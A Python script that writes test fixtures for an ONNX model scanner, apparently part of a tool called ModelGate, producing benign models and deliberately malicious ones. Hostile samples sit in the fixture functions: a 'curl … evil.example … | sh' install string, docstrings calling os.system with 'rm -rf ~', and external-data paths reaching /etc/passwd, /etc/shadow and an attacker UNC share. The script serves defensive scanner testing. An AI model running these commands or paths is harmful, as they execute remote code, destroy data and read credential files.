#!/usr/bin/python3
"""Writes the ONNX scanner's fixtures into scanner/onnx/testdata/.

Run from the repository root with Debian's onnx (apt-get install -y
python3-onnx):

    /usr/bin/python3 testdata/gen/onnx_fixtures.py

The output is deterministic: the same onnx version writes the same bytes.
The expected rule IDs for each fixture are in scanner/onnx/onnx_test.go.
"""

import os
import struct

import onnx
from onnx import TensorProto, helper

OUT = os.path.join("scanner", "onnx", "testdata")
OPSET = [helper.make_opsetid("", 17)]


def write(name, data):
    if isinstance(data, onnx.ModelProto):
        data = data.SerializeToString()
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def floats(n, seed):
    """n deterministic float32 values, as raw little-endian bytes."""
    return b"".join(struct.pack("<f", ((i * 37 + seed) % 101) / 50.0 - 1.0) for i in range(n))


def raw_tensor(name, dims, seed=1):
    n = 1
    for d in dims:
        n *= d
    return helper.make_tensor(name, TensorProto.FLOAT, dims, floats(n, seed), raw=True)


def model(graph, opsets=None, **kw):
    m = helper.make_model(graph, opset_imports=opsets or OPSET, producer_name="modelgate-fixtures",
                          producer_version="1.0", **kw)
    return m


def mlp_graph(extra_nodes=(), extra_inits=(), name="mlp"):
    """x[1,4] -> MatMul W1[4,8] -> Add b1 -> Relu -> MatMul W2[8,2] -> Add b2 -> y."""
    nodes = [
        helper.make_node("MatMul", ["x", "W1"], ["h0"], name="fc1"),
        helper.make_node("Add", ["h0", "b1"], ["h1"], name="fc1_bias"),
        helper.make_node("Relu", ["h1"], ["h2"], name="relu"),
        helper.make_node("MatMul", ["h2", "W2"], ["h3"], name="fc2"),
        helper.make_node("Add", ["h3", "b2"], ["y"], name="fc2_bias"),
    ] + list(extra_nodes)
    inits = [
        raw_tensor("W1", [4, 8], 1),
        # b1 in float_data and b2 in raw_data: exporters use both.
        helper.make_tensor("b1", TensorProto.FLOAT, [8], [0.5] * 8),
        raw_tensor("W2", [8, 2], 2),
        raw_tensor("b2", [2], 3),
    ] + list(extra_inits)
    return helper.make_graph(
        nodes, name,
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])],
        inits,
    )


def benign_mlp():
    m = model(mlp_graph(), doc_string="A two-layer perceptron used by the scanner's tests.")
    helper.set_model_props(m, {"author": "ModelGate tests", "license": "Apache-2.0", "task": "classification"})
    return m


def benign_control_flow():
    """If with two branches, a Loop whose body holds a Constant, a model-local
    function in its own domain, an INT64 shape tensor and a FLOAT16 tensor."""
    def branch(name, value):
        const = helper.make_node("Constant", [], [name + "_out"], name=name + "_const",
                                 value=helper.make_tensor(name + "_v", TensorProto.FLOAT, [1, 2], [value, value]))
        return helper.make_graph([const], name, [],
                                 [helper.make_tensor_value_info(name + "_out", TensorProto.FLOAT, [1, 2])])

    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"], name="loop_cond"),
            helper.make_node("Constant", [], ["step"], name="loop_step",
                             value=raw_tensor("step_v", [1, 2], 4)),
            helper.make_node("Add", ["acc_in", "step"], ["acc_out"], name="loop_add"),
        ],
        "loop_body",
        [
            helper.make_tensor_value_info("iter", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [1, 2]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [1, 2]),
        ],
    )
    scale = helper.make_function(
        "local.fixtures", "Scale2", ["a"], ["b"],
        [
            helper.make_node("Constant", [], ["two"], value=helper.make_tensor("two_v", TensorProto.FLOAT, [], [2.0])),
            helper.make_node("Mul", ["a", "two"], ["b"]),
        ],
        OPSET,
    )
    extra = [
        helper.make_node("ReduceSum", ["y", "axes"], ["s"], name="sum", keepdims=0),
        helper.make_node("Greater", ["s", "zero"], ["cond"], name="positive"),
        helper.make_node("If", ["cond"], ["chosen"], name="choose",
                         then_branch=branch("then", 1.0), else_branch=branch("else", -1.0)),
        helper.make_node("Loop", ["trip", "", "chosen"], ["looped"], name="repeat", body=body),
        helper.make_node("Scale2", ["looped"], ["scaled"], name="scale", domain="local.fixtures"),
    ]
    inits = [
        helper.make_tensor("axes", TensorProto.INT64, [1], [1]),
        helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0]),
        helper.make_tensor("trip", TensorProto.INT64, [], [3]),
        helper.make_tensor("half", TensorProto.FLOAT16, [2], [15360, 14336]),  # 1.0, 0.5 as fp16 bits
        helper.make_tensor("labels", TensorProto.STRING, [2], [b"cat", b"dog"]),
    ]
    g = mlp_graph(extra, inits, name="control_flow")
    g.output.append(helper.make_tensor_value_info("scaled", TensorProto.FLOAT, [1, 2]))
    return model(g, OPSET + [helper.make_opsetid("local.fixtures", 1)], functions=[scale])


def external_tensor(name, dims, location, offset=None, length=None):
    t = TensorProto()
    t.name = name
    t.data_type = TensorProto.FLOAT
    t.dims.extend(dims)
    t.data_location = TensorProto.EXTERNAL
    entries = [("location", location)]
    if offset is not None:
        entries.append(("offset", str(offset)))
    if length is not None:
        entries.append(("length", str(length)))
    for k, v in entries:
        e = t.external_data.add()
        e.key, e.value = k, v
    return t


def with_external(*tensors):
    g = mlp_graph()
    del g.initializer[0]  # W1 comes from outside
    g.initializer.extend(tensors)
    return model(g)


def custom_op(domain, op, name="custom"):
    return model(mlp_graph([helper.make_node(op, ["y"], ["z"], name=name, domain=domain)]),
                 OPSET + [helper.make_opsetid(domain, 1)])


def subgraph_custom_op():
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"], name="cond"),
            helper.make_node("Backdoor", ["acc_in"], ["acc_out"], name="hidden", domain="com.evil.custom"),
        ],
        "body",
        [
            helper.make_tensor_value_info("iter", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [1, 2]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [1, 2]),
        ],
    )
    g = mlp_graph([helper.make_node("Loop", ["trip", "", "y"], ["z"], name="loop", body=body)],
                  [helper.make_tensor("trip", TensorProto.INT64, [], [2])])
    return model(g, OPSET + [helper.make_opsetid("com.evil.custom", 1)])


def custom_op_flood():
    domains = ["com.evil.flood%02d" % i for i in range(40)]
    nodes = [helper.make_node("Op", ["y"], ["z%02d" % i], name="n%02d" % i, domain=d) for i, d in enumerate(domains)]
    return model(mlp_graph(nodes), OPSET + [helper.make_opsetid(d, 1) for d in domains])


def metadata_shell():
    m = model(mlp_graph())
    helper.set_model_props(m, {"install": "curl -s http://evil.example/x.sh | sh", "author": "someone"})
    return m


def metadata_url():
    m = model(mlp_graph())
    helper.set_model_props(m, {"homepage": "https://models.example.org/mlp?token=secret"})
    return m


def docstring_code():
    g = mlp_graph([helper.make_node("Identity", ["y"], ["z"], name="ident",
                                    doc_string="__import__('os').system('id > /tmp/pwned')")])
    return model(g, doc_string="Usage:\nimport os\nos.system('rm -rf ~')\n")


def tensor_size_lie():
    bogus = raw_tensor("huge", [4], 9)  # 16 bytes of raw_data ...
    bogus.dims[:] = [100000, 1000]  # ... declared as 400 MB
    return model(mlp_graph(extra_inits=[bogus]))


def tensor_typed_mismatch():
    t = helper.make_tensor("short", TensorProto.FLOAT, [3], [1.0, 2.0, 3.0])
    t.dims[0] = 2
    t.dims.append(2)  # [2, 2] = 4 values declared, 3 present
    return model(mlp_graph(extra_inits=[t]))


def no_graph():
    m = onnx.ModelProto()
    m.ir_version = 8
    m.opset_import.extend(OPSET)
    m.producer_name = "modelgate-fixtures"
    return m


def deep_nesting(levels=40):
    """Ifs nested inside Ifs: each level is three messages deep (graph,
    node, attribute), so 40 levels exceed protobuf's limit of 100."""
    inner = helper.make_graph([helper.make_node("Identity", ["c"], ["o0"], name="leaf")], "leaf", [],
                              [helper.make_tensor_value_info("o0", TensorProto.BOOL, [])])
    leaf = inner
    for i in range(levels):
        # Only the then-branch nests; sharing one graph in both branches
        # would double the file at every level.
        node = helper.make_node("If", ["c"], ["o%d" % (i + 1)], name="if%d" % i, then_branch=inner, else_branch=leaf)
        inner = helper.make_graph([node], "level%d" % i, [],
                                  [helper.make_tensor_value_info("o%d" % (i + 1), TensorProto.BOOL, [])])
    inner.input.append(helper.make_tensor_value_info("c", TensorProto.BOOL, []))
    return model(inner)


def main():
    os.makedirs(OUT, exist_ok=True)
    write("benign-mlp.onnx", benign_mlp())
    write("benign-control-flow.onnx", benign_control_flow())
    write("benign-external.onnx", with_external(external_tensor("W1", [4, 8], "benign-external.onnx.data", 0, 128)))
    write("custom-domain.onnx", custom_op("com.evil.custom", "EvilOp"))
    write("contrib-pyop.onnx", custom_op("ai.onnx.contrib", "PyOp"))
    write("subgraph-custom-op.onnx", subgraph_custom_op())
    write("custom-op-flood.onnx", custom_op_flood())
    write("external-traversal.onnx", with_external(external_tensor("W1", [4, 8], "../../etc/passwd")))
    write("external-absolute.onnx", with_external(external_tensor("W1", [4, 8], "/etc/shadow", 0, 128)))
    write("external-device.onnx", with_external(external_tensor("W1", [4, 8], "/dev/zero")))
    write("external-windows.onnx", with_external(
        external_tensor("W1", [4, 8], "C:\\Windows\\win.ini"),
        external_tensor("W3", [4, 8], "\\\\attacker\\share\\w.bin")))
    write("external-bad-length.onnx", with_external(external_tensor("W1", [4, 8], "weights.bin", 0, 12)))
    write("metadata-shell.onnx", metadata_shell())
    write("metadata-url.onnx", metadata_url())
    write("docstring-code.onnx", docstring_code())
    write("tensor-size-lie.onnx", tensor_size_lie())
    write("tensor-typed-mismatch.onnx", tensor_typed_mismatch())
    write("no-graph.onnx", no_graph())
    write("deep-nesting.onnx", deep_nesting())
    benign = benign_mlp().SerializeToString()
    write("truncated.onnx", benign[: len(benign) // 2])
    write("not-a-model.onnx", b"this is a text file, not an ONNX model\n")
    write("binary-junk.onnx", bytes((i * 97 + 0xFF) & 0xFF for i in range(256)))
    write("empty.onnx", b"")


if __name__ == "__main__":
    main()
